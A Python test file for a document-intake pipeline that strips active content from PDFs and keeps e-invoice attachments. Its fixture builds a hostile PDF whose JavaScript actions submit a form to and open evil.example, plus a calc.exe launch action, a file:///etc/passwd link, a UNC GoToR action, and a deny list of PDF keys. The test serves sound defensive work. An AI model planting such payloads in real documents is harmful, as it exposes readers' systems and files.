"""Active content of born-digital PDFs (issue 11): what goes to the archive and to the
offices carries no JavaScript, launch or file actions and no embedded files; the files
are kept beside the PDF, an e-invoice's XML marks the item as an invoice and travels to
the office, the history says what was taken out, and the original stays byte for byte."""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import io
import json
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)
from sqlalchemy import select
from test_harden_webhook import serve

from mailroom.dispatch import dispatch as dispatching
from mailroom.dispatch.folder import FolderConnector, FolderTarget
from mailroom.dispatch.mail import MailConnector, MailTarget
from mailroom.dispatch.webhook import WebhookTarget
from mailroom.ingest.intake import sha256_file
from mailroom.ingest.sanitize import write_clean_pdf
from mailroom.pipeline import ingest_once
from mailroom.records import DeliveryOutcome, ItemState
from mailroom.settings import PACKAGE_CONFIG_DIR, Settings
from mailroom.store.db import Database, open_database
from mailroom.store.tables import Event, Item, SourceFile
from mailroom.taxonomy import load_taxonomy

from conftest import postgres_schema

pytestmark = pytest.mark.slow

INVOICE_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">'
    b"<rsm:ExchangedDocument><ram:ID>RE-2030-0815</ram:ID></rsm:ExchangedDocument></rsm:CrossIndustryInvoice>\n"
)
NOTE = b"Lieferschein 4711: 3 Kartons Kopierpapier\n"
LINES = [
    "Stadtverwaltung Chemnitz, Sozialamt",
    "Antrag auf Wohngeld fuer die Wohnung Zwickauer Strasse 12",
    "Sehr geehrte Damen und Herren,",
    "hiermit beantrage ich Wohngeld fuer meine Wohnung. Die Unterlagen liegen bei.",
]
FORBIDDEN = {"/JS", "/JavaScript", "/Launch", "/EmbeddedFiles", "/FileAttachment", "/XFA", "/GoToR", "/AA"}


def _js(script: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )


def _annotation(subtype: str, rect: tuple[int, int, int, int], **entries: PdfObject) -> DictionaryObject:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
        }
    )
    annotation.update({NameObject(f"/{key}"): value for key, value in entries.items()})
    return annotation


def hostile_pdf() -> bytes:
    """A born-digital letter with every kind of active content and two embedded files."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    text = " T* ".join(f"({line}) Tj" for line in LINES)
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 11 Tf 16 TL 60 780 Td {text} ET".encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(content)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('Seite offen')")})
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("C:\\Windows\\calc.exe")}
    )
    file_uri = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("file:///etc/passwd")}
    )
    web_uri = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://www.chemnitz.de/"),
        }
    )
    remote = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): TextStringObject("\\\\server\\share\\x.pdf"),
            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
        }
    )
    embedded_note = DecodedStreamObject()
    embedded_note.set_data(NOTE)
    embedded_note[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("lieferschein.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded_note)}),
        }
    )
    field = _annotation(
        "/Widget", (60, 500, 200, 520), FT=NameObject("/Tx"), T=TextStringObject("betrag"),
        A=_js("this.submitForm('https://evil.example')"),
        AA=DictionaryObject({NameObject("/K"): _js("event.value = 'x'")}),
    )  # fmt: skip
    annotations = [
        _annotation("/Link", (60, 700, 200, 720), A=_js("app.launchURL('https://evil.example')")),
        _annotation("/Link", (60, 670, 200, 690), A=launch),
        _annotation("/Link", (60, 640, 200, 660), A=file_uri),
        _annotation("/Link", (60, 610, 200, 630), A=web_uri),
        _annotation("/Link", (60, 580, 200, 600), A=remote),
        _annotation(
            "/FileAttachment", (300, 700, 320, 720), FS=filespec, Contents=TextStringObject("Anlage")
        ),
        field,
    ]
    references = [writer._add_object(a) for a in annotations]
    page[NameObject("/Annots")] = ArrayObject(references)
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([references[-1]]), NameObject("/XFA"): writer._add_object(xfa)}
    )
    writer._root_object[NameObject("/OpenAction")] = _js("app.alert('Dokument offen')")
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js("app.alert('zu')")})
    writer.add_attachment("factur-x.xml", INVOICE_XML)
    scripts = ArrayObject([TextStringObject("drucken"), writer._add_object(_js("this.print({bUI: false});"))])
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): scripts})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def every_name(pdf: Path) -> set[str]:
    """Every name used anywhere in the PDF, as key or value, reached from its trailer."""
    names: set[str] = set()
    seen: set[tuple[int, int]] = set()
    stack: list[PdfObject] = [PdfReader(pdf).trailer]
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                continue
            seen.add((obj.idnum, obj.generation))
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):  # stream objects too
            names.update(obj.keys())
            stack += obj.values()
        elif isinstance(obj, ArrayObject):
            stack += list(obj)
        elif isinstance(obj, NameObject):
            names.add(str(obj))
    return names


@dataclass
class Ingested:
    home: Path
    settings: Settings
    db: Database
    item_id: str
    original: bytes


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def ingested(request, tmp_path_factory) -> Iterator[Ingested]:
    home = tmp_path_factory.mktemp(f"home-{request.param}")
    original = hostile_pdf()
    (home / "inbox").mkdir()
    (home / "inbox" / "wohngeld.pdf").write_bytes(original)
    with ExitStack() as stack:
        url = (
            f"sqlite:///{home / 'mailroom.db'}"
            if request.param == "sqlite"
            else stack.enter_context(postgres_schema())
        )
        ingest = {"stable_seconds": 0, "workers": 1}
        settings = Settings.model_validate({"home": home, "database_url": url, "ingest": ingest})
        db = open_database(url)
        ingest_once(settings, db)
        with db.session() as session:
            [item_id] = session.scalars(select(Item.id)).all()
        yield Ingested(home, settings, db, item_id, original)
        db.dispose()


def test_the_archive_pdf_has_no_active_content_and_keeps_its_text(ingested: Ingested) -> None:
    pdf = ingested.home / "archive" / "pdf" / f"{ingested.item_id}.pdf"
    assert FORBIDDEN & every_name(pdf) == set()
    page = PdfReader(pdf).pages[0]
    assert "Zwickauer Strasse 12" in page.extract_text()
    uris = [a.get_object()["/A"]["/URI"] for a in page["/Annots"] if "/A" in a.get_object()]
    assert uris == ["https://www.chemnitz.de/"]  # a web link is no active content


def test_embedded_files_lie_beside_the_pdf_and_the_original_is_untouched(ingested: Ingested) -> None:
    folder = ingested.home / "archive" / "pdf"
    assert (folder / f"{ingested.item_id}.factur-x.xml").read_bytes() == INVOICE_XML
    assert (folder / f"{ingested.item_id}.lieferschein.txt").read_bytes() == NOTE
    with ingested.db.session() as session:
        source = session.scalars(select(SourceFile)).one()
    assert (ingested.home / source.archive_path).read_bytes() == ingested.original
    assert sha256_file(ingested.home / source.archive_path) == source.sha256


def test_the_history_names_what_was_removed(ingested: Ingested) -> None:
    with ingested.db.session() as session:
        [event] = session.scalars(
            select(Event).where(Event.item_id == ingested.item_id, Event.kind == "pdf_cleaned")
        ).all()
    removed = "\n".join(event.detail["removed"])
    for what in (
        "JavaScript",
        "Launch",
        "file:///etc/passwd",
        "GoToR",
        "XFA",
        "factur-x.xml",
        "lieferschein.txt",
    ):
        assert what in removed, (what, removed)
    assert removed.count("JavaScript") >= 6  # document open and close, name tree, page, link, field (2)


def test_the_e_invoice_marks_the_item_as_an_invoice_by_the_declared_rule(ingested: Ingested) -> None:
    with ingested.db.session() as session:
        item = session.get_one(Item, ingested.item_id)
    assert item.doc_type == "rechnung"
    assert (
        "e-rechnung" in item.flags["prediction"]["reason"]
        and "factur-x.xml" in item.flags["prediction"]["reason"]
    )


def _approve(db: Database, item_id: str) -> None:
    with db.session() as session:
        session.get_one(Item, item_id).state = ItemState.APPROVED


def test_the_xml_reaches_the_office_with_the_pdf(ingested: Ingested, tmp_path: Path, smtp) -> None:
    settings, db, item_id = ingested.settings, ingested.db, ingested.item_id
    pdf = (ingested.home / "archive" / "pdf" / f"{item_id}.pdf").read_bytes()
    taxonomy = load_taxonomy(PACKAGE_CONFIG_DIR / "taxonomy.yaml")
    payload = dispatching.build_payload(db, settings, item_id, "key-1", taxonomy)
    attachments = {a["file_name"]: a for a in payload.sidecar["attachments"]}
    assert set(attachments) == {f"{item_id}.factur-x.xml", f"{item_id}.lieferschein.txt"}

    office = tmp_path / "office"
    FolderConnector(FolderTarget(path=office), settings.dispatch).deliver(payload)
    assert (office / f"{item_id}.factur-x.xml").read_bytes() == INVOICE_XML
    assert (office / f"{item_id}.pdf").read_bytes() == pdf

    handler, port = smtp
    mail = settings.dispatch.model_copy(update={"smtp_host": "127.0.0.1", "smtp_port": port})
    MailConnector(MailTarget(to=["rechnungseingang@stadt.example"]), mail).deliver(payload)
    [(_, raw)] = handler.messages
    message = email.message_from_bytes(raw, policy=email.policy.default)
    files = {part.get_filename(): part.get_content() for part in message.iter_attachments()}
    assert files[f"{item_id}.factur-x.xml"] == INVOICE_XML and files[f"{item_id}.pdf"] == pdf

    server, url = serve()
    try:
        _approve(db, item_id)
        with db.session() as session:
            route = session.get_one(Item, item_id).route
        routes = {route: WebhookTarget(url=url)}
        [delivery] = dispatching.dispatch_once(
            settings, db, now=dt.datetime.now(dt.UTC), routes=routes
        ).deliveries
    finally:
        server.shutdown()
        server.server_close()
    assert delivery.outcome == DeliveryOutcome.DELIVERED
    [(_, _, headers, body)] = server.seen  # type: ignore[attr-defined]
    form = email.message_from_bytes(
        f"Content-Type: {headers['Content-Type']}\r\n\r\n".encode() + body, policy=email.policy.HTTP
    )
    parts = {part.get_filename(): part for part in form.iter_parts()}
    xml = parts[f"{item_id}.factur-x.xml"]
    assert xml.get_param("name", header="content-disposition") == "attachment"
    assert xml.get_payload(decode=True) == INVOICE_XML
    sidecar = json.loads(parts[f"{item_id}.json"].get_payload(decode=True))
    assert sidecar["attachments"] == payload.sidecar["attachments"]


def test_an_embedded_file_never_takes_the_place_of_the_pdf_or_the_sidecar(tmp_path: Path) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("pdf", b"not the item's PDF")
    writer.add_attachment("x.json", b"{}")
    target = tmp_path / "item-1.pdf"
    cleaned = write_clean_pdf(writer, tmp_path / "scan.tif", target)
    assert sorted(p.name for p in cleaned.files.values()) == ["item-1.pdf.bin", "item-1.x.json.bin"]
    assert len(PdfReader(target).pages) == 1 and "/EmbeddedFiles" not in every_name(target)
